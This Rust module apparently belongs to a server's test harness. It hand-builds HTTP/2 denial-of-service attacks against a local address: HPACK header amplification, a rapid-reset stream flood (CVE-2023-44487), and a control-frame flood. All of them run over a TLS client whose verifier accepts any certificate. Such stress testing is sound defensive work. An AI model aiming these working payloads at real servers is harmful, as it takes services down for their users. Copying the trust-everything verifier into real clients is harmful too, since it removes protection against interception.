//! TLS connections of attackers, and the attacks over HTTP/2, whose frames are written by hand because no client
//! library would send them.

use std::{
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    sync::Arc,
    time::Duration,
};

use anyhow::{Context as _, ensure};
use tokio_rustls::rustls::{
    ClientConfig, ClientConnection, DigitallySignedStruct, Error, SignatureScheme, StreamOwned,
    client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier},
    crypto::ring,
    pki_types::{CertificateDer, ServerName, UnixTime},
};

use super::line::Attacker;

/// A client's connection preface (RFC 9113 3.4), with empty settings.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `GET https://localhost/healthz` in HPACK: entries of the static table, and two literals.
const HEALTHZ: &[u8] = b"\x82\x87\x04\x08/healthz\x41\x09localhost";

/// An attacker's TLS connection, which accepts any certificate.
pub(crate) struct Secure {
    stream: StreamOwned<ClientConnection, TcpStream>,
    /// Number of bytes that were sent, before encryption.
    pub(crate) bytes: u64,
}

impl Secure {
    /// Connects, and offers the server one protocol by ALPN.
    ///
    /// # Errors
    /// If the connection or its handshake fails.
    pub(crate) fn connect(address: SocketAddr, protocol: &[u8]) -> anyhow::Result<Self> {
        let socket = TcpStream::connect(address).context("no connection")?;
        socket.set_read_timeout(Some(Duration::from_mins(1)))?;
        socket.set_nodelay(true)?;
        let mut config = ClientConfig::builder_with_provider(Arc::new(ring::default_provider()))
            .with_safe_default_protocol_versions()?
            .dangerous()
            .with_custom_certificate_verifier(Arc::new(Trusting))
            .with_no_client_auth();
        config.alpn_protocols = vec![protocol.to_vec()];
        let connection = ClientConnection::new(Arc::new(config), ServerName::try_from("127.0.0.1")?)?;
        let mut stream = StreamOwned::new(connection, socket);
        stream.flush()?;
        Ok(Self { stream, bytes: 0 })
    }

    fn send(&mut self, bytes: &[u8]) -> bool {
        let is_sent = self.stream.write_all(bytes).and_then(|()| self.stream.flush()).is_ok();
        self.bytes += bytes.len() as u64;
        is_sent
    }

    /// Sends a request over HTTP/1.1, reads its answer, which must be short, and returns the status.
    ///
    /// # Errors
    /// If no whole answer comes.
    pub(crate) fn ask(&mut self, head: &str, body: &[u8]) -> anyhow::Result<u16> {
        let length =
            if body.is_empty() { String::new() } else { format!("Content-Length: {}\r\n", body.len()) };
        self.send(format!("{head} HTTP/1.1\r\nHost: localhost\r\n{length}\r\n").as_bytes());
        self.send(body);
        let mut read = Vec::new();
        let mut piece = [0; 4096];
        loop {
            let text = String::from_utf8_lossy(&read).to_ascii_lowercase();
            if let Some((head, body)) = text.split_once("\r\n\r\n") {
                let length = head.lines().find_map(|line| line.strip_prefix("content-length: "));
                let length: usize = length.and_then(|length| length.parse().ok()).unwrap_or(0);
                if body.len() >= length {
                    return head.get(9..12).and_then(|status| status.parse().ok()).context("no status");
                }
            }
            let count = self.stream.read(&mut piece).context("no answer")?;
            ensure!(count > 0, "the server has ended the connection");
            read.extend_from_slice(&piece[..count]);
        }
    }

    /// Sends a frame (RFC 9113 4.1). Returns true if all of it was sent.
    fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> bool {
        let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
        let mut frame = length[1..].to_vec();
        frame.extend_from_slice(&[kind, flags]);
        frame.extend_from_slice(&stream.to_be_bytes());
        frame.extend_from_slice(payload);
        self.send(&frame)
    }

    /// Reads and discards until nothing has come for 150 ms, or the connection ends.
    fn drain(&mut self) {
        let mut piece = [0; 16 * 1024];
        if self.stream.sock.set_read_timeout(Some(Duration::from_millis(150))).is_ok() {
            while self.stream.read(&mut piece).is_ok_and(|count| count > 0) {}
        }
    }
}

/// Sends heads that unpack to a thousand times their size: a field is put into the dynamic table once, and referred to
/// 15,000 times in each of many streams.
///
/// # Errors
/// If there is no connection.
pub(crate) fn heads(address: SocketAddr) -> anyhow::Result<Attacker> {
    let mut attacker = Attacker::of(address);
    for _ in 0..4 {
        attacker.asked(100);
        let mut line = Secure::connect(address, b"h2")?;
        line.send(PREFACE);
        // The field `x` with 3,900 letters, which goes into the dynamic table (RFC 7541 6.2.1).
        let mut first = HEALTHZ.to_vec();
        first.extend_from_slice(b"\x40\x01x\x7f\xbd\x1d");
        first.extend_from_slice(&[b'a'; 3900]);
        line.frame(HEADERS, END_STREAM | END_HEADERS, 1, &first);
        for stream in 1..100 {
            let mut head = b"\x82\x87\x04\x08/healthz\xbf".to_vec();
            head.extend_from_slice(&[0xbe; 15_000]);
            if !line.frame(HEADERS, END_STREAM | END_HEADERS, 2 * stream + 1, &head) {
                break;
            }
        }
        line.drain();
        attacker.keep_secure(line);
    }
    Ok(attacker)
}

/// Opens many streams, and resets each at once (CVE-2023-44487).
///
/// # Errors
/// If there is no connection.
pub(crate) fn resets(address: SocketAddr) -> anyhow::Result<Attacker> {
    let mut attacker = Attacker::of(address);
    let mut line = Secure::connect(address, b"h2")?;
    line.send(PREFACE);
    for stream in 0..20_000 {
        attacker.asked(1);
        let number = 2 * stream + 1;
        if !line.frame(HEADERS, END_STREAM | END_HEADERS, number, HEALTHZ)
            || !line.frame(RST_STREAM, 0, number, &[0, 0, 0, 8])
        {
            break;
        }
    }
    line.drain();
    attacker.keep_secure(line);
    Ok(attacker)
}

/// Sends many small frames of settings, pings and window updates, each of which demands an answer or some work.
///
/// # Errors
/// If there is no connection.
pub(crate) fn frames(address: SocketAddr) -> anyhow::Result<Attacker> {
    let mut attacker = Attacker::of(address);
    let mut line = Secure::connect(address, b"h2")?;
    line.send(PREFACE);
    for _ in 0..10_000 {
        attacker.asked(3);
        let is_sent = line.frame(4, 0, 0, &[])
            && line.frame(6, 0, 0, b"12345678")
            && line.frame(8, 0, 0, &[0, 0, 0, 1]);
        if !is_sent {
            break;
        }
    }
    line.drain();
    attacker.keep_secure(line);
    Ok(attacker)
}

impl Attacker {
    fn keep_secure(&mut self, line: Secure) {
        self.opened();
        self.keep_other(line.bytes, Box::new(line.stream.sock));
    }
}

#[derive(Debug)]
struct Trusting;

impl ServerCertVerifier for Trusting {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        ring::default_provider().signature_verification_algorithms.supported_schemes()
    }
}
